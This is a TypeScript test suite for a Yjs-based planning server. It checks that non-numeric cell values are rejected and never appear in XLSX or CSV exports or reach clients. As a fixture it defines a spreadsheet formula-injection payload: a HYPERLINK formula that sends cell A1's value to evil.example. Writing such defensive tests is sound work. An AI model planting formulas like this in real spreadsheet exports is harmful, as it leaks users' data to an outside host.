import ExcelJS from 'exceljs'
import * as Y from 'yjs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PlanDoc, PlanModel } from '@tandem/shared'
import { SYSTEM_AUTHOR } from '@tandem/server'
import type { TestServer } from '../support/test-server.js'
import { createPlan, startTestServer, tempSqliteStore } from '../support/test-server.js'
import { encodeSections } from './support/crafted-sections.js'
import { RawSyncClient } from './support/raw-sync-client.js'
import { materializeStoredPlan } from './support/stored-plan.js'

const FORMULA = 'HYPERLINK("https://evil.example/?leak="&A1,"click")'

/**
 * Issue 11, case 7: data stored before the rules refused it (or written under the rules' nose)
 * holds objects where numbers belong. The update here goes straight into the store's log,
 * written with raw Yjs and never checked, as old data would be.
 */
describe('non-number values in stored cells never reach an export or a client', () => {
  let server: TestServer
  let cleanup: () => Promise<void>
  let planId: string
  let sku: string
  let before: { demand: number[]; supply: number[]; openingStock: number }

  beforeAll(async () => {
    const temp = await tempSqliteStore()
    cleanup = temp.cleanup
    server = await startTestServer(temp.store)
    planId = await createPlan(server, { skuCount: 3, periodCount: 6, seed: 7 })
    const doc = await materializeStoredPlan(server.store.log, planId)
    const plan = new PlanDoc(doc)
    sku = plan.listSkus()[0]
    before = {
      demand: plan.readRow('demand', sku),
      supply: plan.readRow('supply', sku),
      openingStock: plan.readItem(sku)?.openingStock ?? NaN,
    }
    const stateBefore = Y.encodeStateVector(doc)
    doc.clientID = 770_001
    doc.transact(() => {
      plan.row('demand', sku)?.edits.set('1', { formula: FORMULA } as unknown as number)
      plan.row('demand', sku)?.edits.set('2', { toString: 1 } as unknown as number)
      plan.row('supply', sku)?.edits.set('3', 'not a number' as unknown as number)
      plan.row('supply', sku)?.edits.set('4', Number.NaN)
      plan.items.get(sku)?.set('openingStock', { formula: FORMULA })
      plan.items.get(sku)?.set('family', { toString: 1 })
    })
    const update = Y.encodeStateAsUpdate(doc, stateBefore)
    await server.store.log.appendUpdates(planId, [{ update, author: SYSTEM_AUTHOR }])
    doc.destroy()
  })

  afterAll(async () => {
    await server.close()
    await cleanup()
  })

  const download = async (format: 'xlsx' | 'csv') => {
    const response = await fetch(`${server.url}/api/plans/${planId}/export.${format}`, {
      headers: server.headers('viewer'),
    })
    expect(response.status).toBe(200)
    return Buffer.from(await response.arrayBuffer())
  }

  it('exports XLSX without a formula, with numbers (or nothing) in every cell', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await download('xlsx')) as unknown as ArrayBuffer)
    const sheet = workbook.getWorksheet('Plan')
    expect(sheet).toBeDefined()
    const values: ExcelJS.CellValue[] = []
    sheet?.eachRow((row) => row.eachCell((cell) => values.push(cell.value)))
    for (const workbookSheet of workbook.worksheets) {
      workbookSheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${workbookSheet.name}!${cell.address}`).not.toBe(
            ExcelJS.ValueType.Formula,
          )
          expect(['string', 'number']).toContain(typeof cell.value)
        }),
      )
    }
    expect(JSON.stringify(values)).not.toContain('HYPERLINK')
    const demandRow = sheet
      ?.getSheetValues()
      .find(
        (row) => Array.isArray(row) && row[2] === sku && row[15] === 'demand',
      ) as ExcelJS.CellValue[]
    // Columns P onward hold the periods; the bad overlay entries read as the base values.
    expect(demandRow.slice(16, 22)).toEqual(before.demand)
    expect(demandRow[7]).toBe(0)
  })

  it('exports CSV without the formula text', async () => {
    const csv = (await download('csv')).toString('utf8')
    expect(csv).not.toContain('HYPERLINK')
    expect(csv).not.toContain('[object Object]')
    expect(csv).not.toContain('not a number')
    expect(csv).not.toContain('NaN')
  })

  it('gives a client numbers: the board model builds, and every value is a finite number', async () => {
    const client = await RawSyncClient.connect(server.syncUrl, planId, {
      token: server.tokens.viewer,
    })
    try {
      const model = new PlanModel(client.plan)
      const view = model.sku(sku)
      expect(view).toBeDefined()
      expect(view?.demand).toEqual(before.demand)
      expect(view?.supply).toEqual(before.supply)
      expect(view?.item.openingStock).toBe(0)
      expect(view?.item.family).toBe('')
      for (const value of [...(view?.projected ?? []), ...(view?.demand ?? [])])
        expect(Number.isFinite(value)).toBe(true)
      expect(client.plan.readCell('demand', sku, 1)).toBe(before.demand[1])
      expect(client.plan.readCell('supply', sku, 4)).toBe(before.supply[4])
    } finally {
      client.close()
    }
  })
})

/**
 * Issue 11, case 7 over a real socket: a sales user's stock Yjs client writes a value that is not
 * a finite number into an open demand cell, directly and through an overlap of its own last
 * struct (case 1); every one is refused and the stored cell keeps its number.
 */
describe('a cell value is a finite number, whatever a client sends', () => {
  const SALES = 707_001
  const NOT_NUMBERS: unknown[] = [
    '5',
    '=1+1',
    true,
    false,
    null,
    Number.NaN,
    Number.POSITIVE_INFINITY,
    Number.NEGATIVE_INFINITY,
    [5],
    [[5]],
    {},
    { formula: FORMULA },
    { toString: 1 },
    -1,
  ]
  let server: TestServer
  let cleanup: () => Promise<void>

  beforeAll(async () => {
    const temp = await tempSqliteStore()
    cleanup = temp.cleanup
    server = await startTestServer(temp.store)
  })

  afterAll(async () => {
    await server.close()
    await cleanup()
  })

  it('refuses every value that is not a finite number ≥ 0, sent straight or through an overlap', async () => {
    const planId = await createPlan(server, { skuCount: 2, periodCount: 6, seed: 11 })
    const sales = await RawSyncClient.connect(server.syncUrl, planId, {
      token: server.tokens.sales,
      clientId: SALES,
    })
    const sku = sales.plan.listSkus()[0]
    const saved = sales.savedCount
    sales.sendUpdate(sales.edit((plan) => plan.writeCell('demand', sku, 3, 40)))
    expect(await sales.verdict(saved)).toEqual({ kind: 'accepted' })
    const refusals: string[] = []
    let client = sales
    for (const value of NOT_NUMBERS) {
      for (const overlap of [false, true]) {
        if (!client.isOpen)
          client = await RawSyncClient.connect(server.syncUrl, planId, {
            token: server.tokens.sales,
            clientId: SALES,
          })
        const state = Y.getState(client.doc.store, SALES)
        const update = overlap
          ? encodeSections([
              [
                {
                  client: SALES,
                  clock: state - 1,
                  parent: { root: 'comments' },
                  parentSub: 'x',
                  content: { any: [0, value] },
                },
              ],
            ])
          : client.edit((plan) => plan.row('demand', sku)!.edits.set('3', value as number))
        const before = client.savedCount
        client.sendUpdate(update)
        const verdict = await client.verdict(before)
        refusals.push(`${JSON.stringify(value)}${overlap ? ' (overlap)' : ''}: ${verdict.kind}`)
      }
    }
    expect(refusals.filter((line) => !line.endsWith('rejected'))).toEqual([])
    const stored = new PlanDoc(await materializeStoredPlan(server.store.log, planId))
    expect(stored.row('demand', sku)!.edits.get('3')).toBe(40)
    client.close()
  })
})
